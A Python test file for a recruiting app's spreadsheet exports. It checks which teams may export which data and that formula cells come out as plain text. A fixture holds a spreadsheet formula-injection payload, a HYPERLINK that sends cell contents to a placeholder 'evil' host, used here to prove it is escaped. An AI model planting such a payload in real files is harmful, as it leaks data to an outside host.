"""The exports: what each user may take out, and cells a spreadsheet would run written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from homestretch.offers.models import CompetingOffer
from homestretch.pipeline.models import Candidate
from homestretch.spreadsheets.exporter import ExportKind, Filters, export_table, write_csv, write_xlsx
from homestretch.spreadsheets.importer import import_sheet

pytestmark = pytest.mark.django_db

PIPELINE = (
    "Name,Email,Client,Job,Stage,Recruiter,Stage Date\n"
    '"=HYPERLINK(""http://evil/?""&A1)",eve@example.org,Globex,Backend Engineer,Offer,alice@example.com,2026-11-02\n'
    "Ana Lima,ana@example.org,@Acme,Data Engineer,Interview,charlie@example.com,2026-11-02\n"
)


@pytest.fixture
def pipeline(tmp_path, alice, charlie, now):
    path = tmp_path / "pipeline.csv"
    path.write_text(PIPELINE)
    result = import_sheet(path, at=now)
    assert result.written and not result.bad
    CompetingOffer.objects.create(candidate=Candidate.objects.get(email="eve@example.org"), company="Hooli",
                                  confidential=True, learned_at=now)


def csv_rows(kind, user, now, filters=None):
    out = io.StringIO()
    write_csv(export_table(kind, filters or Filters(), user=user, at=now), out)
    return list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))


def test_formula_cells_are_written_as_text_in_csv_and_xlsx(pipeline, ada, now, tmp_path):
    rows = csv_rows(ExportKind.APPLICATIONS, ada, now)
    assert rows[0][:6] == ["Application", "Candidate", "E-mail", "Client", "Job", "Stage"]
    assert [row[1] for row in rows[1:]] == ["Ana Lima", "'=HYPERLINK(\"http://evil/?\"&A1)"]
    assert [row[3] for row in rows[1:]] == ["'@Acme", "Globex"]
    write_xlsx(export_table(ExportKind.APPLICATIONS, user=ada, at=now), tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert sheet["B3"].value == "'=HYPERLINK(\"http://evil/?\"&A1)" and sheet["F2"].value == "Interviewing"


def test_a_recruiter_exports_their_own_team_and_an_admin_everything(pipeline, alice, charlie, ada, now):
    assert [row[1] for row in csv_rows(ExportKind.CANDIDATES, alice, now)[1:]] == ["eve@example.org"]
    assert [row[1] for row in csv_rows(ExportKind.CANDIDATES, charlie, now)[1:]] == ["ana@example.org"]
    assert len(csv_rows(ExportKind.CANDIDATES, ada, now)) == 3
    assert [row[4] for row in csv_rows(ExportKind.BOARD, alice, now)[1:]] == ["Backend Engineer"]
    # A confidential competing offer stays with the team whose pages show it, marked so.
    assert csv_rows(ExportKind.COMPETING, alice, now)[1][1:3] == ["Hooli", "yes"]
    assert csv_rows(ExportKind.COMPETING, charlie, now)[1:] == []


def test_today_and_the_board_filter(pipeline, alice, ada, now):
    today = csv_rows(ExportKind.TODAY, ada, now)
    assert today[0][:3] == ["Application", "Candidate", "Client"] and len(today) == 3
    only_globex = csv_rows(ExportKind.BOARD, ada, now, Filters(stage="offer"))
    assert [row[3] for row in only_globex[1:]] == ["Globex"]


def test_a_viewer_exports_what_the_pages_show_them_and_writes_nothing(pipeline, victor, teams, now, client):
    # Without a team, the organisation's lists, as every page shows them to a reader.
    assert len(csv_rows(ExportKind.APPLICATIONS, victor, now)) == 3
    victor.team = teams["south"]
    victor.save()
    assert [row[1] for row in csv_rows(ExportKind.CANDIDATES, victor, now)[1:]] == ["ana@example.org"]
    client.force_login(victor)
    assert client.get("/export/offers.csv").status_code == 200
    assert client.get("/spreadsheets/").status_code == 200
    assert client.post("/spreadsheets/import/", {"token": "x"}).status_code == 403
